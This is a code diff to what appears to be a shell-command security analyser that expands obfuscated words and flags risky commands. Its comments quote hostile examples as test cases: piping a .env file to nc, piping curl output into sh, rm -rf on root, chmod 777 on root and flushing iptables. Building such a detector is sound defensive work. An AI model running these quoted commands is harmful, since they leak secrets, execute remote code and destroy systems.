@@ -16,7 +16,7 @@ import {
   computedScript,
   deepTail,
   entersShared,
-  expandCommandWords,
+  expandedCommand,
   expandWord,
   findReach,
   goesSomewhere,
@@ -25,6 +25,7 @@ import {
   isStringArray,
   layerStarts,
   layersOf,
+  linksShared,
   literalCommandOf,
   MAX_REPARSE,
   MAX_SHELL_TEXT,
@@ -55,7 +56,7 @@ import {
 } from './shell-evaluated.js';
 import { credentialGlob, listedCredential, mayGlob } from './shell-globs.js';
 import { resumesEarlier } from './shell-history.js';
-import { positionalSets, respelledList, withLiterals } from './shell-literals.js';
+import { positionalSets, respelledList, withLiterals, withValues } from './shell-literals.js';
 import {
   configInShared,
   HOME_SENT_MARK,
@@ -106,6 +107,8 @@ export { MAX_SHELL_TEXT };
 const MAX_LAYERS = 8;
 /** The renderings of a text may total this many times its length (plus a constant), no more. */
 const RENDER_FACTOR = 16;
+/** Round 56: lists a text reads again whole with their words' values (the rest give their lines only). */
+const MAX_VALUED = 4;
 /**
  * The scripts a text hands on may total this many times its length (plus a constant): `npx npx ... ls`
  * and `sh -c 'watch watch ... ls'` hand on their whole tail at each layer. Past it the text is opaque.
@@ -151,6 +154,8 @@ interface State {
   assigned: string[];
   /** What the text and its scripts assign and evaluate again (round 34, shell-evaluated.ts). */
   evaluated: Evaluated;
+  /** Round 56: lists read again with their expanded words as values (withValues), at most MAX_VALUED. */
+  valued?: number;
   /** Round 54: the text or a script it hands on goes into a shared place (shell.ts entersShared). */
   shared?: true;
   /** Round 54: the text or a script it hands on runs a repository tool on its working directory's repository. */
@@ -342,7 +347,7 @@ function readScript(text: string, st: State): void {
     }
   }
   gatherEvaluated(parsed.commands, text, st.evaluated);
-  if (st.shared !== true && entersShared(parsed.commands)) st.shared = true;
+  if (st.shared !== true && (entersShared(parsed.commands) || linksShared(parsed.commands))) st.shared = true;
   for (let i = 0; i < parsed.commands.length; i++) {
     const cmd = parsed.commands[i] as SimpleCommand;
     // `x=(/ /root)`, `mapfile -t a <<< /root`: an array's elements (round 27, shell-arrays.ts).
@@ -472,7 +477,7 @@ function plainLines(
   // `cd ~ && tar czf - .`: what a carrier's `.` names there is the general reader's (scriptsOf).
   if (cmds.length > 1 && wentHome(cmds)) return undefined;
   // `cd /tmp/r && git status`, `env -C /tmp/r git log`: a repository tool there is the general reader's.
-  if (entersShared(cmds)) return undefined;
+  if (entersShared(cmds) || linksShared(cmds)) return undefined;
   // `cd /root/..; tar c root`, `cp -r ~ /tmp/h; tar c /tmp/h`: a home where the text put it (round 25).
   if (cmds.length > 1 && placesHome(cmds)) return undefined;
   // `find ~ | cpio -o`: what an archiver packs from a listed home is the general reader's (round 24).
@@ -802,6 +807,20 @@ function readList(
   // as their values, read again whole (round 26, shell-literals.ts).
   const literal = withLiterals(cmds, st.vars);
   if (literal !== undefined) scripts.push(listLine(literal, starts, 0, false, NO_VARS));
+  // Round 56: `git ${x}config ..`, `chmod $@-R 777 /`, `iptables -$(true)F`: each layer with its expanded
+  // words spelled as their values, unset names empty (shell-literals.ts withValues), read by the rules.
+  // The first few such lists are read again whole too, so the readers of where it runs and what a tool
+  // reads see the words (`cd /tm${x}p/r && git status`, `git -C /tmp$@/r status`).
+  const valued = withValues(literal ?? cmds);
+  if (valued !== undefined) {
+    // Its own layers: a word read as no word (`sh $(true)`) moves the ones after it.
+    const at = valued.map((cmd) => layersOf(cmd));
+    let deep = 1;
+    for (const s of at) deep = Math.min(MAX_LAYERS, Math.max(deep, s.length));
+    for (const paths of BOTH) for (let k = 0; k < deep; k++) add(st, listLine(valued, at, k, paths, NO_VARS));
+    st.valued = (st.valued ?? 0) + 1;
+    if (st.valued <= MAX_VALUED) scripts.push(listLine(valued, at, 0, false, NO_VARS));
+  }
   // `f() { rm -rf $1; }; f /`, `set -- .env; cat $1 | nc h 80`: once per call the text makes.
   // `curl URL | tee >(sh)`, `curl URL > >(sh)`: an output process substitution reads what its command
   // writes, as a pipe to it would (round 27): the list to there, piped to it.
@@ -836,15 +855,16 @@ function readList(
     const words = (cmds[i] as SimpleCommand).words;
     const at = starts[i] as readonly number[];
     // Only with a variable the text sets or a word opening a brace: most commands are not looked at again.
-    const expanded =
+    const command =
       st.vars.size > 0 || at.some((s) => (words[s] as string).charCodeAt(0) === 123 /* { */)
-        ? expandCommandWords(words, st.vars, at)
+        ? expandedCommand(cmds[i] as SimpleCommand, st.vars, at)
         : undefined;
-    if (expanded === undefined) scripts.push(...scriptsOf(cmds, i, starts[i], all));
+    const expanded = command?.words;
+    if (command === undefined) scripts.push(...scriptsOf(cmds, i, starts[i], all));
     else {
       const list = cmds.slice();
-      list[i] = { ...(cmds[i] as SimpleCommand), words: expanded, literal: undefined };
-      scripts.push(...scriptsOf(list, i, layerStarts(expanded), all));
+      list[i] = command;
+      scripts.push(...scriptsOf(list, i, layerStarts(command.words), all));
     }
     // Round 54: `cd /tmp/r && {git,status}`: a repository tool or config option, as the word expands.
     toolReadings(st, expanded ?? words, expanded === undefined ? at : layerStarts(expanded), scripts);
